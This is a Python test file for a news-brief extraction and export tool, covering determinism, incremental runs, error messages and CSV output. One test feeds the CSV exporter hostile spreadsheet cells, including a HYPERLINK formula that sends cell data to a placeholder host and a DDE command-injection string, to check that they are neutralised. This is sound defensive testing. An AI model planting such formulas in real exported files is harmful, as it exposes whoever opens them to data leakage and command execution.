"""The extraction run: determinism, incremental skips, all-or-nothing writes, export, CLI errors
(its cache: tests/test_cache_extraction.py)."""
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from corpus import project  # noqa: F401  (fixture)
from generator.cli import main
from generator.briefs.extraction import extract_all, guided_chunks

ROOT = Path(__file__).resolve().parent.parent


def snapshot(folder: Path) -> dict:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_extraction_is_deterministic_whatever_the_cores(project, tmp_path):
    extract_all(project / "seeds", project / "briefs", jobs=1, force=True)
    one = snapshot(project / "briefs")
    other = tmp_path / "other"
    other.mkdir()
    (other / "taxonomy.yaml").write_bytes((project / "briefs" / "taxonomy.yaml").read_bytes())
    extract_all(project / "seeds", other, jobs=2, force=True)
    assert snapshot(other) == one


def test_committed_briefs_are_up_to_date(tmp_path):
    """Re-extracting the committed seeds over the committed briefs changes nothing."""
    shutil.copytree(ROOT / "briefs", tmp_path / "briefs")
    shutil.copytree(ROOT / "model", tmp_path / "model")   # the project's sentence model, beside briefs/
    before = snapshot(tmp_path / "briefs")
    extract_all(ROOT / "seeds", tmp_path / "briefs", force=True)
    assert snapshot(tmp_path / "briefs") == before


def test_unchanged_sources_are_not_parsed_again(project):
    first = extract_all(project / "seeds", project / "briefs")
    assert len(first.skipped) == 0
    again = extract_all(project / "seeds", project / "briefs")
    assert len(again.skipped) == 5 and again.written == []
    path = project / "seeds" / "000_c1ea733ae704b2c3.txt"
    path.write_text(path.read_text(encoding="utf-8") + "\nRussia fears ISIS in Central Asia.\n", encoding="utf-8")
    third = extract_all(project / "seeds", project / "briefs")
    assert len(third.skipped) == 4
    assert any("000_c1ea733ae704b2c3" in w for w in third.written)


def test_a_bad_seed_means_nothing_is_written(project):
    (project / "seeds" / "zzz.txt").write_bytes(b"\xff\xfe broken")
    code = main(["extract", "--seeds", str(project / "seeds"), "--briefs", str(project / "briefs")])
    assert code == 1
    assert sorted(p.name for p in (project / "briefs").iterdir()) == ["taxonomy.yaml"]


def test_errors_are_one_line_naming_the_file(project):
    tax = project / "briefs" / "taxonomy.yaml"
    tax.write_text("question: x\nmotives:\n  - id: Bad Id\n", encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "generator", "extract", "--seeds", str(project / "seeds"),
                           "--briefs", str(project / "briefs")], capture_output=True, text=True)
    assert proc.returncode == 1
    assert proc.stderr.strip().splitlines() == [
        f"{tax}:3:9: id 'Bad Id' must be lowercase letters, digits and hyphens"]
    assert proc.stdout == ""


@pytest.mark.parametrize("args,message", [
    (["extract", "--seeds", "nowhere"], "nowhere: seeds folder not found"),
    (["export", "--briefs", "nowhere"], "nowhere/sources: folder not found"),
])
def test_missing_folders(args, message, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "briefs").mkdir()
    (tmp_path / "briefs" / "taxonomy.yaml").write_text((ROOT / "briefs" / "taxonomy.yaml").read_text())
    assert main(args) == 1
    assert message in capsys.readouterr().err


def test_empty_seeds_folder(project, capsys):
    for p in (project / "seeds").iterdir():
        p.unlink()
    assert main(["extract", "--seeds", str(project / "seeds"), "--briefs", str(project / "briefs")]) == 1
    assert "no .txt or .md articles" in capsys.readouterr().err


def test_export_records_are_grounded_and_complete(project, capsys):
    extract_all(project / "seeds", project / "briefs")
    assert main(["export", "--briefs", str(project / "briefs")]) == 0
    recs = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    kinds = {r["kind"] for r in recs}
    assert {"motive", "counter", "actor", "quote", "event", "figure"} <= kinds
    texts = {p.stem: p.read_text(encoding="utf-8") for p in (project / "seeds").glob("*.txt")}
    for r in recs:
        assert r["source"] in texts and r["label"]
        if r["kind"] == "actor":
            assert r["name"] and r["count"] >= 1
        else:
            assert texts[r["source"]][r["start"]:r["end"]] == r["quote"]
        if r["kind"] == "counter":
            assert "rebuts" in r
        if r["kind"] == "figure":
            assert r["value"]


def test_export_csv(project, capsys):
    extract_all(project / "seeds", project / "briefs")
    assert main(["export", "--briefs", str(project / "briefs"), "--format", "csv"]) == 0
    import csv
    import io
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[0][:11] == "kind,label,source,quote,start,end,rebuts,name,count,value,status".split(",")
    assert len(rows) > 100


def test_rejected_items_are_not_exported(project, capsys):
    extract_all(project / "seeds", project / "briefs")
    path = project / "briefs" / "sources" / "002_2352f3490b38a229.yaml"
    text = path.read_text(encoding="utf-8")
    first_motive = text.index("motives:\n")
    status_at = text.index("status: auto", first_motive)
    path.write_text(text[:status_at] + "status: rejected" + text[status_at + 12:], encoding="utf-8")
    main(["export", "--briefs", str(project / "briefs")])
    recs = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert all(r["status"] != "rejected" for r in recs)
    assert sum(1 for r in recs if r["kind"] == "motive" and r["source"].startswith("002")) == \
        text[first_motive:].split("counters:")[0].count("- id:") - 1


def test_written_files_are_ordinary_files(project):
    """Atomic writes go through mkstemp (0600); briefs end up with the usual permissions."""
    import os
    umask = os.umask(0o022)
    try:
        extract_all(project / "seeds", project / "briefs")
    finally:
        os.umask(umask)
    brief = project / "briefs" / "sources" / "000_c1ea733ae704b2c3.yaml"
    assert brief.stat().st_mode & 0o777 == 0o644


def test_export_csv_neutralises_formulas(project, capsys):
    """Issue 20, item 10: a text cell a spreadsheet would run as a formula (OWASP's list:
    = + - @ tab, carriage return) starts with an apostrophe; JSON Lines keeps the text as is."""
    import csv
    import io
    from generator.briefs.export import to_csv
    hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
               "@SUM(1,2)", "\tTab first", "\rReturn first", "plain text", "a = b"]
    recs = [{"kind": "quote", "label": text, "source": "s", "quote": text, "start": 0, "end": len(text),
             "status": "manual"} for text in hostile]
    recs.append({"kind": "actor", "label": "a", "source": "s", "name": "-Anonymous", "count": -1})
    rows = list(csv.DictReader(io.StringIO(to_csv(recs), newline="")))
    for text, row in zip(hostile, rows):
        expected = text if text in ("plain text", "a = b") else "'" + text
        assert row["quote"] == expected and row["label"] == expected
        assert row["start"] == "0"
    assert rows[-1]["name"] == "'-Anonymous" and rows[-1]["count"] == "-1"   # a number stays one
    extract_all(project / "seeds", project / "briefs")
    assert main(["export", "--briefs", str(project / "briefs"), "--format", "csv"]) == 0
    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out, newline="")) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_brief_extract_loads_neither_the_site_nor_the_schema_models(tmp_path):
    # Every `brief` command builds the whole parser; the site's modules (Jinja) and the brief
    # schema's pydantic models cost a cold `brief extract` of the five seeds a third of its CPU
    # (0.70 -> 0.46 s, BENCHMARKS.md): a cold run must not import them. A brief that exists
    # is validated against the schema when merged, so a forced second run loads it.
    briefs = tmp_path / "briefs"
    briefs.mkdir()
    shutil.copy(ROOT / "briefs" / "taxonomy.yaml", briefs)
    shutil.copytree(ROOT / "model", tmp_path / "model")   # with its model, as a project has it
    script = (
        "import sys, json; from generator.cli import main\n"
        f"code = main(['extract', '--seeds', {str(ROOT / 'seeds')!r}, '--briefs', {str(briefs)!r}, '--jobs', '1',"
        " *sys.argv[1:]])\n"
        "print(json.dumps([code, sorted(n for n in sys.modules if n.startswith(('generator.site', 'jinja2', "
        "'pydantic', 'generator.briefs.schema')))]))\n")
    runs = [json.loads(subprocess.run([sys.executable, "-c", script, *force], capture_output=True, text=True,
                                      check=True, cwd=ROOT, timeout=120).stdout.splitlines()[-1])
            for force in ([], ["--force"])]
    assert runs[0] == [0, []]
    assert runs[1][0] == 0 and "generator.briefs.schema" in runs[1][1]


@pytest.mark.parametrize("n, jobs", [(1000, 2), (10_000, 2), (37, 4), (8, 2), (1, 2)])
def test_guided_chunks_cover_the_work_in_order_and_shrink_to_one_article(n, jobs):
    todo = [(f"s{i}.txt", f"b{i}.yaml") for i in range(n)]
    chunks = guided_chunks(todo, jobs)
    sizes = [len(c) for c in chunks]
    assert [job for c in chunks for job in c] == todo
    assert sizes == sorted(sizes, reverse=True) and sizes[-1] == 1
    assert max(sizes) == max(1, n // (jobs * 32))     # never larger than the pool's old chunks
    # the last jobs * 4 articles go one at a time: no worker is left with a long tail
    assert sizes[-min(n, jobs * 4):] == [1] * min(n, jobs * 4)


def test_a_run_parses_the_sentence_model_once(tmp_path, monkeypatch):
    """The classifier's note and the extractor share one parse of model/sentences.json (about
    1 MB of JSON, read before the pool forks: serial time on every core)."""
    from generator.briefs import extraction
    (tmp_path / "briefs").mkdir()
    shutil.copy(ROOT / "briefs" / "taxonomy.yaml", tmp_path / "briefs" / "taxonomy.yaml")
    shutil.copytree(ROOT / "model", tmp_path / "model")
    parse, parsed = extraction.modelfile.parse, []
    monkeypatch.setattr(extraction.modelfile, "parse", lambda *a: parsed.append(a) or parse(*a))
    report = extract_all(ROOT / "seeds", tmp_path / "briefs", jobs=1, force=True)
    assert len(parsed) == 1 and report.classifier.startswith("sentences labelled by the trained model")
